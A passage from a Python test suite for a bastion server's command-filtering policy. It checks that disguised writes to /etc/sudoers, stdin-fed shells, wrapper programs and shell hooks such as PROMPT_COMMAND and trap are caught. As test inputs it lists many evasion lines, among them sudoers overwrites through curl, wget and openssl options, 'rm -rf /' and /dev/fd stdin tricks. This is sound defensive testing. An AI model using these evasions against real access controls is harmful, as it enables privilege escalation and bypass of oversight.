    ("openssl x509 -req -in r -CA c -CAserial /etc/sudoers", ["/etc/sudoers"]),
    ("openssl rand -writerand /etc/sudoers 8", ["/etc/sudoers"]),
    ("openssl cms -verify -in m -certsout /etc/sudoers", ["/etc/sudoers"]),
    ("curl -w '%output{/etc/sudoers}%{http_code}' http://x", ["/etc/sudoers"]),
    ("curl -w '%output{>>/etc/sudoers}x' http://x", ["/etc/sudoers"]),
    ("curl --hsts /etc/sudoers https://x", ["/etc/sudoers"]),
    ("curl --alt-svc /etc/sudoers https://x", ["/etc/sudoers"]),
    ("unlz4 x.lz4 /etc/sudoers", ["/etc/sudoers"]),
    ("unlz4 -f x.lz4 /etc/sudoers", ["/etc/sudoers"]),
    ("lz4 -l x /etc/sudoers", ["/etc/sudoers"]),
    ("wget -e output_document=/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget --execute=Output-Document=/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget -e logfile=/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget --save-cookies=/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget --hsts-file /etc/sudoers http://x", ["/etc/sudoers"]),
    ("cd /etc && wget http://x/sudoers", ["/etc/sudoers"]),
    ("brotli -d x.br -o /etc/sudoers", ["/etc/sudoers"]),
    ("brotli -d x.br --output=/etc/sudoers", ["/etc/sudoers"]),
    ("uudecode -o /etc/sudoers x.uu", ["/etc/sudoers"]),
    ("lzop -d x.lzo -o /etc/sudoers", ["/etc/sudoers"]),
    ("makemime -o /etc/sudoers x", ["/etc/sudoers"]),
    ("less -o /etc/sudoers x", ["/etc/sudoers"]),
    ("less -O/etc/sudoers x", ["/etc/sudoers"]),
    ("less --log-file=/etc/sudoers x", ["/etc/sudoers"]),
    ("less --LOG-F /etc/sudoers x", ["/etc/sudoers"]),
    ("lesskey -o /etc/sudoers x", ["/etc/sudoers"]),
    ("gcc -MF /etc/sudoers -MD -c x.c", ["/etc/sudoers"]),
    ("busybox uudecode -o /etc/sudoers x.uu", ["/etc/sudoers"]),
]

# What a writer that names a file only by a pattern may write: held, not passed.
PATTERN_WRITES = ["mktemp -p /etc/sudoers.d", "mktemp /etc/sudoers.d/XXXXXX",
                  "mktemp --tmpdir=/etc/sudoers.d", "split -a 3 x /etc/sudoers.d/m",
                  # outside attack G, finding 5
                  "wget -P /etc/sudoers.d http://h/rule", "TMPDIR=/etc/sudoers.d mktemp",
                  "export TMPDIR=/etc/sudoers.d; mktemp -t x.XXXX",
                  "git format-patch -o /etc/sudoers.d HEAD~1",
                  "split --additional-suffix=.conf /tmp/rule /etc/sudoers.d/z"]


@each("line", PATTERN_WRITES)
def test_files_a_writer_names_by_pattern_hold_the_line(default_policy: Policy, line: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    assert (verdict.action, verdict.rule) == ("confirm", "no-credential-file-writes"), verdict


@each(("line", "written"), WRITES)
def test_files_a_command_writes_count_as_writes(line: str, written: list[str]) -> None:
    policy = small_policy({"name": "w", "action": "deny", "commands": [">"],
                           "paths": ["/etc/sudoers"]})
    assert evaluate(policy, line, role="r", target="t").action == "deny"
    # The file copied away is only read: "cp /etc/sudoers /tmp" writes /tmp and /tmp/sudoers.
    assert evaluate(policy, line.replace("/etc", "/srv"), role="r", target="t").action == "allow"
    assert evaluate(policy, "cp /etc/sudoers /tmp/", role="r", target="t").action == "allow"


@each("op", FILE_OPERATIONS)
@each("path", [
    "/etc/sudoers", "/etc//sudoers", "/etc/./sudoers.d/x", "/tmp/../etc/sudoers", "/tmp/x",
    "sudoers", "/etc/sudoer?", "~root/x", "/etc/sudoers.d/a b", "/tmp/$(touch x)",
])
def test_judge_path_gives_the_verdict_of_the_equivalent_line(op: str, path: str) -> None:
    policy = small_policy(SUDOERS)
    direct = judge_path(policy, op, [path], role="r", target="t")
    quoted = shlex.quote(path)
    line = {">": f": > {quoted}", "<": f": < {quoted}"}.get(op, f"{op} {quoted}")
    via_line = evaluate(policy, line, role="r", target="t")
    assert (direct.action, direct.rule, direct.message) == (
        via_line.action, via_line.rule, via_line.message)
    # Paths are taken literally: a glob or ~ in an sftp path names that very file.
    expected = "deny" if normalise_path(path) in ("/etc/sudoers", "/etc/sudoers.d/x",
                                                   "/etc/sudoers.d/a b") else "allow"
    assert direct.action == expected


def test_judge_path_resolves_relative_sftp_paths_from_the_logins_home() -> None:
    policy = small_policy(SUDOERS)
    for login, path, expected in [("root", "../etc/sudoers", "deny"),
                                  ("deploy", "../../etc/sudoers", "deny"),
                                  # the home is taken to be /home/LOGIN; a climbing path is
                                  # also its top path (a home of another depth), held
                                  ("deploy", "../etc/sudoers", "confirm"),
                                  (None, "../../etc/sudoers", "confirm"),
                                  ("deploy", "../x/sudoers", "allow")]:
        verdict = judge_path(policy, ">", [path], role="r", target="t", login=login)
        assert verdict.action == expected, (login, path)


# Programs that run the command after them (outside attack C, finding 12): the server side of
# scp behind them is seen, so that the gate follows its stream or holds it (never lets it pass
# unjudged), and a denied command behind them is denied.
SCP_BEHIND = [
    "ssh-agent", "ssh-agent -a /tmp/agent.sock", "valgrind", "valgrind --tool=memcheck -q",
    "gdb --args", "gdb -q -batch -ex run --args", "dbus-run-session", "dbus-run-session --",
    "strace -f -o /tmp/trace", "ltrace -f", "perf record", "perf stat -e cycles --", "time -p",
    "/usr/bin/time -v", "catchsegv", "faketime yesterday", "faketime -f +1d", "fakeroot --",
    "proxychains4 -q", "torsocks", "torify", "tsocks", "nohup", "unbuffer", "stdbuf -o0",
    "chronic", "sem", "sem --id x -j1", "flock /tmp/l", "flock -n /tmp/l", "timeout 5",
    "timeout --sig KILL 5", "setpriv --reuid 0", "ionice -c3", "nice --adj 5", "chrt -o 0",
    "taskset -c 1", "setsid -w", "prlimit --nofile=1", "systemd-run --scope", "nsenter -t 1 -m",
    "unshare -m", "chroot /", "firejail --noprofile", "xvfb-run -a", "cgexec -g cpu:x",
    "eatmydata", "nocache", "env -C /tmp", "env --ch /tmp", "sudo -D /tmp", "sudo --us root",
    "dtach -c /tmp/s", "abduco -c s", "with-lock-ex -w /tmp/l", "ifne", "mosh-server new --",
    "systemd-nspawn -D /", "sandbox -t x",
]


@each("wrapper", SCP_BEHIND)
def test_the_server_side_of_scp_behind_a_program_that_runs_it_is_seen(default_policy: Policy,
                                                                         wrapper: str) -> None:
    commands = parse_commands(f"{wrapper} scp -t /etc")
    assert any(c.via == ("scp", "-t", "/etc") for c in commands), commands
    assert judge.runs_file_server(f"{wrapper} scp -t /etc")
    assert action(default_policy, f"{wrapper} rm -rf /") == "deny"


@each(("text", "bash", "dash", "quoted", "known"), [
    # the word after `<<` as bash 5.2 and dash 0.5.12 read it (checked against both in
    # tests/test_policy_bash.py); `known`: its extent and both readings are followed
    ("EOF", "EOF", "EOF", False, True), ("'EOF'", "EOF", "EOF", True, True),
    ('"EOF"', "EOF", "EOF", True, True), ("\\EOF", "EOF", "EOF", True, True),
    ("E'O'F", "EOF", "EOF", True, True), ('E"O"F;', "EOF", "EOF", True, True),
    ("$'EOF'", "EOF", "$EOF", True, True), ('$"EOF"', "EOF", "$EOF", True, True),
    ("$''", "", "$", True, True), ("$'E\\x4fF'", "EOF", "$E\\x4fF", True, True),
    ('E$"O"F', "EOF", "E$OF", True, True), ('"E\\OF"', "E\\OF", "E\\OF", True, True),
    ('"E\\\\OF"', "E\\OF", "E\\OF", True, True), ('"E\\$F"', "E$F", "E$F", True, True),
    ('"E\\"F"', 'E"F', 'E"F', True, True), ("$EOF", "$EOF", "$EOF", False, True),
    ("a{b,c}", "a{b,c}", "a{b,c}", False, True), ("~", "~", "~", False, True),
    ("$(x)", None, None, False, False), ("`x`", None, None, False, False),
    ("${x}", None, None, False, False), ("E\\\nOF", None, None, True, False),
    ('"$(x)"', None, None, True, False), ("$'a\\'b'", None, None, True, False),
    ("'EOF", None, None, True, True), ('"EOF', None, None, True, True),
])
def test_here_document_words_are_read_as_bash_and_dash_read_them(
    text: str, bash: str | None, dash: str | None, quoted: bool, known: bool
) -> None:
    word = heredoc_word(f"cat <<{text}\n", 6)
    assert (word.delimiter, word.dash, word.quoted, word.known) == (bash, dash, quoted, known)


def test_judge_path_follows_proc_self_cwd_from_the_logins_home() -> None:
    policy = small_policy(SUDOERS)
    for login, path, expected in [("root", "/proc/self/cwd/../etc/sudoers", "deny"),
                                  ("root", "/proc/self/root/etc/sudoers", "deny"),
                                  ("root", "/proc/1/cwd/etc/sudoers", "confirm"),
                                  ("root", "/proc/self/cwd/../tmp/x", "confirm"),
                                  ("root", "/proc/self/cwd/notes", "allow"),
                                  (None, "/proc/self/cwd/../etc/sudoers", "confirm")]:
        verdict = judge_path(policy, ">", [path], role="r", target="t", login=login)
        assert verdict.action == expected, (login, path)


def test_judge_path_names_the_operation_and_refuses_others() -> None:
    policy = small_policy(SUDOERS)
    verdict = judge_path(policy, "mv", ["/tmp/x", "/etc/sudoers.d/y"], role="r", target="t")
    assert (verdict.action, verdict.rule) == ("deny", "sudoers")
    assert verdict.command == "mv /tmp/x /etc/sudoers.d/y"
    with pytest.raises(ValueError):
        judge_path(policy, "cp", ["/etc/sudoers"], role="r", target="t")


def test_judge_path_uses_the_default_policy_messages(default_policy: Policy) -> None:
    verdict = judge_path(default_policy, ">", ["/etc//sudoers"], role="engineer", target="web01")
    assert (verdict.action, verdict.rule) == ("deny", "no-credential-file-writes")
    assert verdict.message == "Credential files are not changed through the bastion."
    assert judge_path(default_policy, "<", ["/etc/shadow"], role="engineer",
                      target="web01").action == "allow"
    assert judge_path(default_policy, "rm", ["/var/log/wtmp"], role="engineer",
                      target="web01").rule == "no-log-tampering"


def test_legacy_scp_server_side_is_a_file_operation_not_a_copy_out(default_policy: Policy) -> None:
    assert names("scp -t /tmp/x") == [">"]
    assert names("scp -r -d -t -- /srv/a /srv/b") == [">", ">"]
    assert names("scp -f /var/log/syslog") == ["<"]
    assert names("scp x me@elsewhere:") == ["scp"]
    assert action(default_policy, "scp -t /tmp/upload") == "allow"
    assert action(default_policy, "scp -v -f /etc/hosts") == "allow"
    assert action(default_policy, "scp db.dump me@elsewhere:") == "alert"
    assert action(default_policy, "scp -t /etc/../etc/sudoers") == "deny"


def test_a_login_name_makes_tilde_exact(default_policy: Policy) -> None:
    for login, expected in [("root", "deny"), ("deploy", "deny"), (None, "deny")]:
        verdict = evaluate(default_policy, "rm -rf ~", role="engineer", target="web01",
                           login=login)
        assert verdict.action == expected
    assert evaluate(default_policy, "rm -rf ~/build", role="engineer", target="web01",
                    login="deploy").action == "allow"
    assert evaluate(default_policy, "rm -rf ~/..", role="engineer", target="web01",
                    login="deploy").rule == "no-root-wipe"  # /home


# ---------------------------------------------------------------------------------------------
# One list of shells: what reads its program from the line's stdin (the exec gate's question).

STDIN_PROGRAMS = [
    ("bash", "shell"), ("sh", "shell"), ("bash -o emacs", "shell"), ("bash +o history", "shell"),
    ("bash -O extglob", "shell"), ("bash --rcfile /tmp/rc", "shell"), ("bash -s a b", "shell"),
    ("bash -il", "shell"), ("bash -c bash", "shell"), ("sh -c 'exec bash'", "shell"),
    ("rbash", "shell"), ("dash", "shell"), ("ksh", "shell"), ("ksh93 -o vi", "shell"),
    ("mksh -T /dev/tty2", "shell"), ("zsh", "shell"), ("/usr/local/bin/zsh", "shell"),
    ("bash5.2", "shell"), ("/opt/bash-5.2/bin/bash", "shell"), ("busybox sh", "shell"),
    ("busybox ash", "shell"), ("toybox sh", "shell"), ("sudo -u app dash", "shell"),
    ("script -qc bash /dev/null", "shell"), ("ls; bash", "shell"), (". /dev/stdin", "shell"),
    ("bash /dev/stdin", "shell"), ("fish", "shell"), ("at now", "shell"),
    ("sudo -s", "shell"), ("sudo -u app -i", "shell"), ("su", "shell"), ("su - app", "shell"),
    ("sudo su -", "shell"), ("doas -s", "shell"), ("runuser -l app", "shell"),
    ("script -q /dev/null", "shell"), ("chroot /srv/jail", "shell"), ("newgrp docker", "shell"),
    ("su -c id app", None), ("sudo ls", None), ("chroot /srv/jail ls", None),
    # outside attack B, finding 5: the shell's stdin under another name
    ("bash /dev/fd/3 3<&0", "shell"), ("bash 3<&0 /dev/fd/3", "shell"),
    ("bash /dev/fd/4 4>&0", "shell"), ("BASH_ENV=/dev/stdin bash -c true", "shell"),
    ("env BASH_ENV=/dev/fd/0 bash -c true", "shell"), ("ENV=/dev/stdin sh -i", "shell"),
    ("export BASH_ENV=/dev/stdin; bash -c :", "shell"), ("sh /proc/$$/fd/0", "shell"),
    ("bash /proc/self/root/dev/stdin", "shell"), ("bash /proc/thread-self/fd/0", "shell"),
    ("bash /proc/1234/task/1234/fd/0", "shell"), ("bash < /dev/stdin", "shell"),
    ("bash 0< /dev/fd/0", "shell"), (". /dev/fd/3 3<&0", "shell"), ("source -- /dev/stdin", "shell"),
    ("sh /dev/fd/$((0))", "shell"), ("bash /dev/fd/3", "shell"), ("bash /dev/stderr", "shell"),
    ("exec 3<&0; bash /dev/fd/3", "shell"), ("cd /dev/fd && bash 0", "shell"),
    ("cd /proc/self/fd; bash 0", "shell"), ("cd \"$d\"; bash 0", "shell"),
    ("bash --rcfile /dev/stdin -i", "shell"), ("sh -c 'bash /dev/fd/3' 3<&0", "shell"),
    ("python3 /dev/stdin", "interpreter"), ("perl /dev/fd/3 3<&0", "interpreter"),
    ("bash \"$script\"", "shell"),
    ("bash /dev/fd/3 3< x.sh", None), ("bash -n", "shell"), ("bash \"$d\"/0", "shell"),
    ("bash $(echo /dev/fd/0)", "shell"), ("bash ${x/a/b.sh}", "shell"),
    ("cat x | bash -n", None), ("bash -n x.sh", None), ("bash \"$HOME/x.sh\"", None),
    ("BASH_ENV=~/.env bash -c :", None), ("cd /tmp && bash 0", None),
    ("python3", "interpreter"), ("python3 -", "interpreter"), ("python3 -W ignore", "interpreter"),
    ("perl", "interpreter"), ("node", "interpreter"), ("awk -f -", "interpreter"),
    ("python3; bash", "interpreter"),
    ("bash script.sh", None), ("bash -c 'ls'", None), ("bash -o emacs x.sh", None),
    ("fish -c ls", None), ("python3 x.py", None), ("python3 -c 'print(1)'", None),
    ("python3 -W ignore x.py", None), ("awk 1 f", None), ("echo hi", None), ("bash < x", None),
    # outside attack G, finding 2: programs that read a command language (which can run shell
    # commands or write files) from their stdin
    ("sqlite3", "interpreter"), ("sqlite3 db", "interpreter"),
    ("sqlite3 -cmd .headers db", "interpreter"), ("gdb -q -nx", "interpreter"),
    ("gdb -p 1234", "interpreter"), ("ed -s /dev/null", "interpreter"), ("ex -s f", "interpreter"),
    ("vim -es", "interpreter"), ("psql", "interpreter"), ("psql -f -", "interpreter"),
    ("mysql db", "interpreter"), ("sftp -b - host", "interpreter"), ("dc", "interpreter"),
    ("sudo -u postgres psql", "interpreter"), ("ftp host", "interpreter"),
    ("sqlite3 db 'select 1'", None), ("gdb -batch -ex bt -p 1", None), ("psql -c 'select 1'", None),
    ("mysql -e 'select 1'", None), ("sftp -b cmds host", None), ("sqlite3 db < dump.sql", None),
    ("gdb --version", None), ("dc -e '2 3 + p'", None), ("cat x | sqlite3 db", None),
    ("psql -Atc 'select 1'", None), ("psql -Ufoo", "interpreter"), ("psql --file=-", "interpreter"),
    ("mysql -uroot -e 'select 1'", None), ("mysql -uroot db", "interpreter"),
    ("cat x | bash", None), ("ls", None), ("", None),
    # Attack I, finding 1: the redirection may fail, and the shell reads on from the line's stdin.
    ("exec 0</nonexistent; bash", "shell"), ("exec </dev/null; python3", "interpreter"),
    ("exec 3</nonexistent; bash /dev/fd/3 3<&0", "shell"),
]


@each(("command", "kind"), STDIN_PROGRAMS)
def test_which_exec_commands_read_their_program_from_stdin(command: str,
                                                            kind: str | None) -> None:
    assert reads_script_from_stdin(command) == kind


# Statements a shell reads from its stdin that may read that stdin too (outside attack B,
# finding 6): the stdin gate holds them, since bash then goes on from wherever they stopped.
STDIN_READERS = [
    ("read -r x", "read"), ("read -n 2 x", "read"), ("mapfile -t lines", "mapfile"),
    ("while read l; do echo $l; done", "read"), ("{ read x; }", "read"),
    ("select x in a b; do break; done", "select"), ("head -n1", "head"), ("head -n 1", "head"),
    ("head -c 2", "head"), ("cat", "cat"), ("cat - f", "cat"), ("cat \"$f\"", "cat"),
    ("dd bs=1 count=3", "dd"), ("tail -n +2", "tail"), ("sort -k 2", "sort"),
    ("sed -n 1q", "sed"), ("sed -e 1p", "sed"), ("grep -m1 x", "grep"), ("awk 'NR==1'", "awk"),
    ("jq .a", "jq"), ("tee log", "tee"), ("tr a b", "tr"), ("xargs rm", "xargs"),
    ("base64 -d", "base64"), ("gzip -d", "gzip"), ("tar -xz", "tar"), ("bc", "bc"),
    ("ssh host", "ssh"), ("ssh host uptime", "ssh"), ("nc -l 4444", "nc"),
    ("mysql db", "mysql"), ("psql", "psql"), ("sqlite3 db", "sqlite3"), ("crontab -", "crontab"),
    ("apt-get install nginx", "apt-get"), ("yum remove x", "yum"), ("rm -i x", "rm"),
    ("sudo -S ls", "sudo"), ("python3 -c 'input()'", "python3"), ("perl -ne 'print'", "perl"),
    ("zsh", "zsh"), ("fish", "fish"), ("bash -c 'read x'", "read"), ("cat < \"$f\"", "cat"),
    ("x=$(head -1)", "head"),
    # attack G, finding 2: programs that read their commands from stdin
    ("gdb -q -nx", "gdb"), ("ed -s f", "ed"), ("vim f", "vim"), ("ftp host", "ftp"),
    ("sqlite3 -cmd .headers db", "sqlite3"),
    # attack E, finding 6: the descriptor `read -u` reads followed; stdin named as a file
    ("read -u 0 x", "read"), ("read -ru0 x", "read"), ("mapfile -u 0 -n 1 x", "mapfile"),
    ("read -u 3 x 3<&0", "read"), ("exec 3<&0; read -u 3 x", "read"), ("read -u 3 x", "read"),
    ("read -u \"$fd\" x", "read"), ("readarray -u0 x", "readarray"),
    ("head -c 2 /dev/stdin", "head"), ("sed -u 1q /dev/stdin", "sed"),
    ("dd bs=2 count=1 if=/dev/stdin", "dd"), ("dd if=/dev/fd/0 of=/tmp/x", "dd"),
    ("cat /proc/self/fd/0", "cat"), ("cat /dev//stdin", "cat"), ("cat /proc/self/root/dev/stdin", "cat"),
    ("cat /proc/$$/fd/0", "cat"), ("cd /dev/fd; cat 0", "cat"), ("sed -f/dev/stdin f", "sed"),
    ("grep -f /dev/stdin f", "grep"), ("cp /dev/stdin /tmp/x", "cp"), ("wc /dev/fd/3 3<&0", "wc"),
    ("awk 1 /dev/stdin", "awk"), ("python3 /dev/stdin", "python3"), ("base64 /dev/fd/$n", "base64"),
    ("install /dev/stdin /tmp/x", "install"), ("tar -xf /dev/stdin", "tar"),
    ("head -c 2 0", "head"), ("dd if=0 bs=1", "dd"),  # after `cd /dev/fd` on an earlier line
    # attack E, finding 8: the shell's own stdin replaced by code on the line
    ("exec 0<<<'touch x'", "exec"), ("exec < <(echo touch x)", "exec"),
    ("exec <<'E'\ntouch x\nE", "exec"), ("exec 0</tmp/x", "exec"), ("exec <>/tmp/x", "exec"),
    ("command exec </tmp/x", "exec"), ("{ exec 0<&3; }", "exec"), ("eval 'exec </tmp/x'", "exec"),
]
NOT_STDIN_READERS = [
    "read -u 3 x 3<f", "exec 3<&0", "exec >/dev/null 2>&1", "exec 2>/tmp/log", "exec </dev/stdin",
    "cat /dev/stdin < f", "echo x | cat /dev/stdin", "grep 1 f", "sleep 5", "sort -k 2 f",
    "seq 1 10", "tee /dev/stdout < f", "read x < /dev/tty",
    "while read l; do :; done < f", "head -n 1 f", "cat f", "dd if=x of=y",
    "cat f | head", "echo hi", "apt-get install -y nginx", "apt-get -qy install x",
    "sed -n p f", "sed -e 1p f", "grep x f", "grep -r x", "awk -f p f", "jq .a f", "jq -n 1",
    "ssh -n host ls", "python3 x.py", "bash", "sh", "cat <<EOF\nx\nEOF", "cat <<< x",
    "mysql -e 'select 1'", "psql -c 'select 1'", "sqlite3 db 'select 1'", "crontab -l",
    "crontab f", "rm -rf x", "cp -a a b", "systemctl restart nginx", "xargs -a list rm",
    "ls | xargs rm", "tar -xzf f.tgz", "git pull", "sort -o out in", "cut -d : -f 1 /etc/passwd",
]


@each(("line", "reader"), STDIN_READERS)
def test_statements_that_may_read_the_scripts_own_stdin(line: str, reader: str) -> None:
    found = stdin_reader(line)
    assert found is not None and found.name == reader, parse_commands(line)
    doubt = script_doubt(line) or ""
    expected = "gives the shell another stdin" if reader == "exec" else "may read the script after it"
    assert expected in doubt


@each("line", NOT_STDIN_READERS)
def test_statements_that_do_not_read_the_scripts_own_stdin(line: str) -> None:
    assert stdin_reader(line) is None, parse_commands(line)


def test_script_doubt_names_constructs_of_another_shells_grammar() -> None:
    assert script_doubt("ls *(e:touch /tmp/x:)", "zsh") == "zsh syntax that bash does not have"
    assert script_doubt("ls *(e:touch /tmp/x:)", "bash") is None
    assert script_doubt("ls", "zsh") is None
    assert script_doubt("echo hi", "fish") == "code in fish's grammar, which the policy does not read"


@each(("command", "shell"), [
    ("bash", "bash"), ("bash5.2 -s", "bash"), ("sudo -u app zsh", "zsh"), ("su", "sh"),
    ("sudo -s", "sh"), ("bash /dev/fd/3 3<&0", "bash"), ("BASH_ENV=/dev/stdin bash -c :", "bash"),
    ("ssh host", "sh"), ("ls", None), ("bash x.sh", None),
])
def test_the_shell_that_reads_an_exec_commands_stdin(command: str, shell: str | None) -> None:
    assert stdin_shell(command) == shell


def test_the_gate_and_the_policy_share_one_list_of_shells() -> None:
    assert gate.reads_script_from_stdin is reads_script_from_stdin
    assert not hasattr(gate, "SHELLS")
    for shell in SHELLS:
        assert shell_name(f"/usr/bin/{shell}") == shell
        assert shell_name(f"{shell}5.1") == shell
        assert names(f"{shell} -c 'reboot'")[-1] == "reboot" or shell == "fish", shell
    assert shell_name("bashful") is None and shell_name("shx") is None


# ---------------------------------------------------------------------------------------------
# Code the shell runs later: each member of the class (see bastion.command_control.policy's docstring), judged
# with the same rules as the line itself, so `touch` shows up as a command.

HOOKS_JUDGED = [
    "PROMPT_COMMAND='touch /tmp/x'",
    "PROMPT_COMMAND=(history 'touch /tmp/x')",
    "export PROMPT_COMMAND+='; touch /tmp/x'",
    "printf -v PROMPT_COMMAND %s 'touch /tmp/x'",
    "declare 'PROMPT_COMMAND=touch /tmp/x'",
    ": ${PROMPT_COMMAND:=touch /tmp/x}",
    "for PROMPT_COMMAND in 'touch /tmp/x'; do :; done",
    "PS1='$(touch /tmp/x)'",
    "PS0='`touch /tmp/x`'",
    "PS2='\\044(touch /tmp/x)'",
    "PS4='\\140touch /tmp/x\\140'",
    "RPROMPT='$(touch /tmp/x)'",
    "BASH_ENV='$(touch /tmp/x)' bash -c :",
    "ENV='$(touch /tmp/x)' sh -i",
    "MAILPATH='/var/mail/a?$(touch /tmp/x)'",
    "BASH_ALIASES[ls]='touch /tmp/x'",
    "alias ls='touch /tmp/x'",
    "env 'BASH_FUNC_ls%%=() { touch /tmp/x; }' bash -c ls",
    "trap 'touch /tmp/x' DEBUG",
    "mapfile -C 'touch /tmp/x' -c 1 < /etc/hosts",
    "complete -C 'touch /tmp/x' ls",
    "compgen -W '$(touch /tmp/x)'",
    "bind -x '\"\\C-t\": touch /tmp/x'",
    "zsh -c 'sched +1 touch /tmp/x'",
    "command_not_found_handle() { touch /tmp/x; }",
    "cd() { touch /tmp/x; }",
]


@each("line", HOOKS_JUDGED)
def test_code_a_hook_stores_is_judged_as_commands(line: str) -> None:
    assert "touch" in names(line), parse_commands(line)


# ---------------------------------------------------------------------------------------------
# Loading policy.toml

VALID_RULE = {"name": "r", "action": "deny", "commands": ["rm"]}

BAD_POLICIES = [
    ({"default": {}}, "default", "unknown key"),
    ({"defaults": []}, "defaults", "must be a table"),
    ({"defaults": {"unknwon": "allow"}}, "defaults.unknwon", "unknown key"),
    ({"defaults": {"unknown": "ask"}}, "defaults.unknown", "must be one of allow, alert, confirm"),
    ({"defaults": {"confirm_timeout": "2 weeks"}}, "defaults.confirm_timeout", "duration"),
    ({"defaults": {"confirm_timeout": "0s"}}, "defaults.confirm_timeout", "longer than zero"),
    ({"defaults": {"confirm_timeout": True}}, "defaults.confirm_timeout", "duration"),
    ({"rules": {"name": "r"}}, "rules", "array of tables"),
    ({"rules": ["rm"]}, "rules[1]", "must be a table"),
    ({"rules": [{**VALID_RULE, "acton": "deny"}]}, "rules[1].acton", "unknown key"),
    ({"rules": [{"action": "deny", "commands": ["rm"]}]}, "rules[1].name", "is required"),
    ({"rules": [{"name": "r", "commands": ["rm"]}]}, "rules[1].action", "is required"),
    ({"rules": [{"name": "r", "action": "deny"}]}, "rules[1].commands", "is required"),
    ({"rules": [VALID_RULE, {**VALID_RULE, "action": "block"}]}, "rules[2].action",
     "must be one of allow, alert, confirm, deny"),
    ({"rules": [{**VALID_RULE, "name": 3}]}, "rules[1].name", "must be a string"),
    ({"rules": [{**VALID_RULE, "name": " "}]}, "rules[1].name", "must not be empty"),
    ({"rules": [{**VALID_RULE, "commands": "rm"}]}, "rules[1].commands", "list of strings"),
    ({"rules": [{**VALID_RULE, "commands": []}]}, "rules[1].commands", "list of strings"),
    ({"rules": [{**VALID_RULE, "commands": ["rm", ""]}]}, "rules[1].commands[1]", "non-empty"),
    ({"rules": [{**VALID_RULE, "commands": ["/bin/rm"]}]}, "rules[1].commands[0]", "path"),
    ({"rules": [{**VALID_RULE, "flags": ["-rf"]}]}, "rules[1].flags[0]", "not one flag"),
    ({"rules": [{**VALID_RULE, "flags": ["--force=yes"]}]}, "rules[1].flags[0]", "not one flag"),
    ({"rules": [{**VALID_RULE, "flags": ["r"]}]}, "rules[1].flags[0]", "not one flag"),
    ({"rules": [{**VALID_RULE, "args": "(unclosed"}]}, "rules[1].args", "regular expression"),
    ({"rules": [{**VALID_RULE, "args": 5}]}, "rules[1].args", "must be a string"),
    ({"rules": [{**VALID_RULE, "roles": "admin"}]}, "rules[1].roles", "list of strings"),
    ({"rules": [{**VALID_RULE, "targets": [1]}]}, "rules[1].targets[0]", "non-empty string"),
    ({"rules": [{**VALID_RULE, "message": "two\nlines"}]}, "rules[1].message", "one line"),
    ({"rules": [VALID_RULE, VALID_RULE]}, "rules[2].name", "duplicate rule name 'r'"),
    ({"rules": [{**VALID_RULE, "paths": "/etc/x"}]}, "rules[1].paths", "list of strings"),
    ({"rules": [{**VALID_RULE, "paths": ["/etc//x"]}]}, "rules[1].paths[0]", "not normalised"),
    ({"rules": [{**VALID_RULE, "paths": ["/etc/../x"]}]}, "rules[1].paths[0]", "not normalised"),
    ({"rules": [{**VALID_RULE, "paths": ["~/.ssh"]}]}, "rules[1].paths[0]", "~ is expanded"),
    ({"rules": [{**VALID_RULE, "paths": ["etc/x"]}]}, "rules[1].paths[0]", "is relative"),
]


@each(("data", "key", "problem"), BAD_POLICIES)
def test_bad_policies_are_refused_naming_the_key(data: dict, key: str, problem: str) -> None:
    with pytest.raises(PolicyError) as raised:
        policy_from_dict(data)
    assert raised.value.key == key
    assert problem in raised.value.problem
    assert str(raised.value).startswith(f"{key}: ")


@each(
    ("value", "seconds"),
    [("120s", 120.0), ("2m", 120.0), ("1h", 3600.0), ("1m30s", 90.0), (45, 45.0), (1.5, 1.5),
     ("90", 90.0), (" 10s ", 10.0)],
)
def test_confirm_timeout_durations(value: object, seconds: float) -> None:
    policy = policy_from_dict({"defaults": {"confirm_timeout": value}})
    assert policy.defaults.confirm_timeout == seconds


def test_a_minimal_policy_uses_the_documented_defaults() -> None:
    policy = policy_from_dict({})
    assert policy.defaults == Defaults("allow", "confirm", "deny", 120.0)
    assert policy.rules == ()


def test_every_default_rule_that_stops_a_command_tells_the_user_why(
    default_policy: Policy,
) -> None:
    silent = [r.name for r in default_policy.rules if r.action != "allow" and not r.message]
    assert silent == []


# ---------------------------------------------------------------------------------------------
# Continuation lines

COMPLETENESS = [
    ("ls", True), ("", True), ("ls -la # it's fine", True), ("fi", True), ("echo )", True),
    ("ls;", True), ("ls &", True), ("echo a \\\\", True), ("cat <<", True),
    ('echo "abc', False), ("echo 'abc", False), ("echo $'a", False), ("echo `ls", False),
    ("ls &&", False), ("ls ||", False), ("ls |", False), ("ls |  # more", False),
    ("ls 2>&1 |", False),
    ("echo a \\", False),
    ("if true; then", False), ("if true; then ls; fi", True),
    ("case x in", False), ("case x in a) ls;; esac", True), ("case x in (a) ls;; esac", True),
    ("case x in a) echo 'esac';;", False), ("for i in 1; do", False), ("for x in a b c", False),
    ("for i in 1; do ls; done", True), ("while true", False), ("until false; do", False),
    ("select x in a; do", True), ("( ls", False), ("( ls )", True), ("{ ls", False),
    ("{ ls; }", True), ("{ echo }", False), ("f() {", False), ("f() { ls; }", True),
    ("function f {", True), ("echo $(ls", False), ("echo $(ls)", True), ("echo ${x", False),
    ("echo ${x}", True), ('echo ${x:-"a}"}', True), ("[[ -f x", True), ("[[ -f x ]]", True),
    ("echo $((1+", False), ("echo $(( (1+2) * 3 ))", True), ("((i++", False), ("((i++))", True),
    ("x=(1 2", True), ("x=(1 2)", True), ('echo "$(echo ")"', False), ('echo "$(echo ")")"', True),
    ("x=$(case a in a) echo;; esac)", True), ("x=$(case a in a) echo;;", False),
    ("cat <<EOF", False), ("cat <<EOF\nfoo", False), ("cat <<EOF\nfoo\nEOF", True),
    ("cat <<-EOF\n\tfoo\n\tEOF", True), ("cat <<'EOF'\n$(x\nEOF", True),
    ("cat <<EOF | sh\nls\nEOF", True), ("cat <<EOF; ls\nx", False), ("cat <<EOF; ls\nx\nEOF", True),
    ("if [ -f x ]\nthen\nls\nfi", True), ("if [ -f x ]\nthen", False), ("echo a &&\necho b", True),
    ("echo esac", True), ("echo done; for i in a", False), ("echo if", True), ("echo {", True),
    # sh (dash) runs these at once, where bash waits for more (outside attack C, findings 4, 7):
    # `select`, `function` and `[[` are plain words to dash (above), and so on
